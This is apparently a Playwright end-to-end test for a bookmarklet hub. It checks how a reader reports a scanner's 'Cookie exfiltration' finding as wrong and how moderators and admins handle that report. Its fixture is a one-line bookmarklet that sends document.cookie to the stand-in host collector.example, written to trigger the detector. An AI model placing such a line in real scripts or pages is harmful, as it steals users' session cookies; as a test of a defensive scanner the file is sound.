import { type Browser, expect, type Page, test } from "@playwright/test";
import { expectNoViolations } from "../support/axe.ts";
import { hubOrigin, type StandInAccount, signIn } from "../support/hub.ts";
import { untilLive } from "../support/live-page.ts";
import { notice } from "../support/reviews.ts";
import { saveScriptAs } from "../support/save-script.ts";
import { storedRows } from "../support/stored-rows.ts";

async function openAs(browser: Browser, account: StandInAccount, path = "/"): Promise<Page> {
	const page = await (await browser.newContext()).newPage();
	await signIn(page, account, path);
	return page;
}

const section = (page: Page) => page.getByRole("region", { name: "Security Analysis" });
const WORDS = "The collector is the site's own server.";
/** The rule that finds cookies on their way to another site. */
const RULE = "Cookie exfiltration";

const wrongFinding = (page: Page) =>
	section(page).getByRole("button", { name: `This finding is wrong: ${RULE}, line 2` });

async function reportFinding(page: Page): Promise<void> {
	await untilLive(page);
	await wrongFinding(page).click();
	await expect(page.getByRole("dialog").getByLabel("What is wrong?")).toHaveValue(/^cookie-exfiltration 2 \d+$/);
	await page.getByLabel("Why is it wrong?").fill(WORDS);
}

test("a wrong rating goes from its finding to a decision, the reporter and the figures of the rule", async ({
	browser,
}) => {
	const author = await openAs(browser, "Arthur Author");
	const title = `Wrongly rated ${Date.now() % 1e6}`;
	const code = `javascript:document.title = "x";\nfetch("https://collector.example/?" + document.cookie);`;
	const script = await saveScriptAs(author, { title, code });
	const path = `/bookmarklet/${script.id}`;
	// Its author sees what would lift the finding.
	await author.goto(hubOrigin() + path);
	await expect(wrongFinding(author)).toBeVisible({ timeout: 30_000 });
	await expect(
		section(author)
			.getByText(/^What to change:/)
			.first(),
	).toBeVisible();
	await expect(
		section(author)
			.getByText(/^Without this finding the script would/)
			.first(),
	).toBeVisible();

	const reader = await openAs(browser, "Rita Reader", path);
	await expect(wrongFinding(reader)).toBeVisible();
	await expect(section(reader).getByText(/^Without this finding/)).toHaveCount(0);
	await reportFinding(reader);
	await expectNoViolations(reader, "the report of a wrong rating");
	await reader.getByRole("button", { name: "Send Report" }).click();
	await expect(notice(reader, "Report sent")).toBeVisible();
	await reportFinding(reader);
	await reader.getByRole("button", { name: "Send Report" }).click();
	await expect(notice(reader, "The report was not accepted")).toBeVisible();
	await expect(reader.getByText("You have already reported this. A moderator will look at it.")).toBeVisible();
	const own = { select: "reason,description,rating", bookmarklet_id: `eq.${script.id}` };
	expect(await storedRows(reader, "moderation_reports", own)).toMatchObject([
		{
			reason: "rating",
			description: WORDS,
			rating: { version_id: script.version_id, risk_level: "red", finding: { type: "cookie-exfiltration", line: 2 } },
		},
	]);
	expect(await storedRows(author, "moderation_reports", own)).toEqual([]);

	const moderator = await openAs(browser, "Mona Moderator", "/admin?reason=rating");
	await moderator
		.getByRole("list", { name: "Reports" })
		.getByRole("button", { name: new RegExp(`^${title}`) })
		.click();
	const claim = moderator.getByRole("region", { name: "This finding is reported as wrong" });
	await expect(claim).toContainText("cookie-exfiltration");
	await expect(claim.getByRole("list", { name: "Code of the finding" })).toContainText("collector.example");
	await expect(moderator.getByText(WORDS).first()).toBeVisible();
	await expectNoViolations(moderator, "a report of a wrong rating in the queue");
	await moderator.getByRole("radio", { name: /^Rule at fault/ }).check();
	await moderator.getByRole("button", { name: "Submit Decision" }).click();
	await expect(notice(moderator, "Report resolved successfully")).toBeVisible();

	await reader.goto(`${hubOrigin()}/notifications`);
	await expect(reader.getByText(`Your report about “${title}” was resolved`)).toBeVisible();
	// The rating stays until the rule is corrected.
	await reader.goto(hubOrigin() + path);
	await expect(wrongFinding(reader)).toBeVisible();

	const admin = await openAs(browser, "Ada Admin", "/admin?tab=security");
	const row = admin
		.getByRole("region", { name: /^Figures of the rules / })
		.getByRole("row", { name: new RegExp(`^${RULE} `) });
	await expect(row.getByRole("cell")).toHaveText([/^[1-9]\d*$/, /%$/, /^[1-9]\d*$/, /^\d+$/, /^[1-9]\d*$/]);
	await expectNoViolations(admin, "the figures of the rules");
});
